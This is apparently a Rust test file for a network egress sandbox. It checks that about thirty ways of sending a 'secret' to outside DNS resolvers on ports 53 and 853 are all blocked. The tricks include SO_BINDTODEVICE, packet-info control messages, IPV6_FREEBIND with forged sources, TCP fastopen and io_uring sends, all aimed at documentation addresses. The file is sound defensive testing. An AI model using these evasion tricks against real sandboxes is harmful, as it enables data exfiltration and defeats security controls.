//! Ways out on the ports of DNS that no resolver takes: nothing gets out, answered or not.

use egress_tests::{dns::STRANGER4, network::reached};

use super::{POLICY, enforced, free, names, report, words};

const DGRAM4: &str = "socket inet dgram";
const DGRAM6: &str = "socket inet6 dgram";
const STREAM4: &str = "socket inet stream";
const STREAM6: &str = "socket inet6 stream";

/// Ways to bring bytes to port 53 that no resolver takes: whether they are answered does not matter, only that nothing
/// gets out. None has an address of its own to be told by, but the text.
const WAYS_OUT: &[&[&str]] = &[
    &[DGRAM4, "connect 203.0.113.53:53", "askto 203.0.113.153:53 secret.refused.example A"],
    &[DGRAM4, "sendto 203.0.113.153:53 secret"],
    &[DGRAM4, "connect 203.0.113.153:53", "more secret", "send secret"],
    &[DGRAM4, "moreto 203.0.113.153:53 secret", "sendto 203.0.113.153:53 secret"],
    &[DGRAM4, "sendmmsg 203.0.113.53:53 203.0.113.153:53 secret"],
    &[DGRAM4, "bind 0.0.0.0:53", "sendto 203.0.113.153:53 secret"],
    // IP_PKTINFO of the wire's device.
    &[DGRAM4, "cmsgto 203.0.113.153:53 0 8 020000000000000000000000 secret"],
    &[DGRAM4, "connect 203.0.113.153:53", "cmsg 0 8 020000000000000000000000 secret"],
    // SO_BINDTODEVICE: agent0, before and after.
    &[DGRAM4, "option 1 25 6167656e743000", "sendto 203.0.113.153:53 secret"],
    &[DGRAM4, "connect 203.0.113.153:53", "option 1 25 6167656e743000", "send secret"],
    &[STREAM4, "option 1 25 6167656e743000", "connect 203.0.113.153:53", "send secret"],
    // IP_UNICAST_IF, IPV6_UNICAST_IF: device 2, big endian.
    &[DGRAM4, "option 0 50 00000002", "sendto 203.0.113.153:53 secret"],
    &[DGRAM6, "option 41 76 00000002", "sendto [2001:db8:153::53]:53 secret"],
    // IPV6_PKTINFO of the wire's device.
    &[DGRAM6, "cmsgto [2001:db8:153::53]:53 41 50 0000000000000000000000000000000002000000 secret"],
    &[DGRAM6, "cmsgto [::ffff:203.0.113.153]:53 41 50 00000000000000000000ffff0000000002000000 secret"],
    // IP_TTL.
    &[DGRAM4, "cmsgto 203.0.113.153:53 0 2 20000000 secret"],
    // IPV6_FREEBIND, bound to an address of somebody else's: who is asked would answer there.
    &[
        DGRAM6,
        "option 41 78 01000000",
        "bind [2001:db8:153::153]:4444",
        "askto [2001:db8:153::53]:53 secret.refused.example A",
    ],
    &[DGRAM4, "ring-sendmsg 203.0.113.153:53 secret"],
    &[DGRAM4, "polled-sendmsg 203.0.113.153:53 secret"],
    &[DGRAM4, "connect 203.0.113.53:53", "disconnect", "connect 203.0.113.153:53", "send secret"],
    &[DGRAM4, "unspecto 203.0.113.153:53 secret"],
    &[DGRAM6, "sendto [2001:db8:153::53]:53 secret"],
    &[DGRAM6, "sendto [::ffff:203.0.113.153]:53 secret"],
    &[DGRAM6, "connect [::ffff:203.0.113.153]:53", "send secret"],
    &[DGRAM6, "connect [2001:db8:153::53]:53", "send secret"],
    &[STREAM4, "connect 203.0.113.153:53", "send secret"],
    &[STREAM4, "fastopen 203.0.113.153:53 secret"],
    &[STREAM4, "ring-connect 203.0.113.153:53", "send secret"],
    &[STREAM6, "connect [2001:db8:153::53]:53", "send secret"],
    &[STREAM6, "fastopen [2001:db8:153::53]:53 secret"],
    &[STREAM6, "fastopen [::ffff:203.0.113.153]:53 secret"],
];

/// Each step is tried, whatever became of the one before; a moment for what is sent behind the program's back.
fn trying(steps: &[&str]) -> Vec<String> {
    steps.iter().map(|step| format!("?{step}")).chain(["sleep 20".to_owned()]).collect()
}

/// Seen to fail before packets for loopback had to leave through it: IP_PKTINFO put questions on the wire; and before
/// forged sources were refused: the listener's replies went there.
#[test]
fn nothing_gets_out_on_port_53() {
    let names = names();
    let run = names.run(POLICY);
    let mut faults = Vec::new();
    for steps in WAYS_OUT {
        let steps = trying(steps);
        let (printed, seen) = free(&names, &run, &words(&steps));
        if !seen.strangers_asked() || !seen.label("secret") {
            faults.push(format!("{steps:?}: nothing got out even without egress: {printed}"));
        }
    }
    let one_by_one = WAYS_OUT.iter().map(|steps| trying(steps));
    let all = one_by_one.clone().flatten().collect();
    // All in one run; if that leaks, each in one of its own, to say which.
    for steps in std::iter::once(all).chain(one_by_one) {
        let (ended, seen) = enforced(&names, &run, &words(&steps));
        if seen.strangers_asked() || seen.label("secret") {
            faults.push(format!("{steps:?} got out: {:?} {}", seen.frames, ended.stdout));
        }
        if faults.is_empty() {
            break;
        }
    }
    report(faults);
}

/// A rule that opens every port opens neither 53 nor 853. Mutation seen to fail here: 53 alone refused.
#[test]
fn dns_goes_nowhere_else_whatever_a_rule_says() {
    let names = names();
    let policy = format!("{POLICY}  types: [A]\n").replace(
        "deny:\n",
        "  - { cidr: 203.0.113.0/24, ports: [1-65535], protocol: any }\n  \
         - { cidr: 2001:db8::/32, ports: [1-65535], protocol: any }\ndeny:\n",
    );
    let steps = [
        STREAM4,
        "?connect 203.0.113.153:853",
        STREAM6,
        "?connect [2001:db8:153::53]:853",
        DGRAM4,
        "?sendto 203.0.113.153:853 secret",
        // Connecting a datagram socket sends nothing, and is how C libraries look for their own address.
        "connect 203.0.113.153:853",
        "?send secret",
        DGRAM6,
        "?sendto [2001:db8:153::53]:853 secret",
        "?sendto [::ffff:203.0.113.153]:853 secret",
        DGRAM4,
        "?sendto 203.0.113.153:53 secret",
    ];
    let run = names.run(&policy);
    let (_, seen) = free(&names, &run, &steps);
    assert!(seen.strangers_asked() && seen.label("secret") && reached(&seen.frames, STRANGER4.into()));
    let (ended, seen) = enforced(&names, &run, &steps);
    assert_eq!(ended.errnos("connect"), [libc::EPERM, libc::EPERM, 0], "{}", ended.stdout);
    assert_eq!(ended.errnos("send"), [libc::EPERM], "{}", ended.stdout);
    assert_eq!(ended.errnos("sendto"), [libc::EPERM, libc::EPERM, libc::EPERM, 0], "{}", ended.stdout);
    assert!(!seen.strangers_asked() && !seen.label("secret"), "{:?}", seen.asked);
    let reasons: Vec<_> = ended.denials().iter().map(|event| event["reason"].clone()).collect();
    assert_eq!(reasons, vec!["dns"; 6], "{:?}", ended.events);
    // Other ports of the same addresses are open: the rule is not without effect.
    let (ended, seen) = enforced(&names, &run, &[STREAM4, "connect 203.0.113.153:443"]);
    assert_eq!(ended.denials().len(), 0, "{}", ended.stderr);
    assert!(reached(&seen.frames, STRANGER4.into()));
}
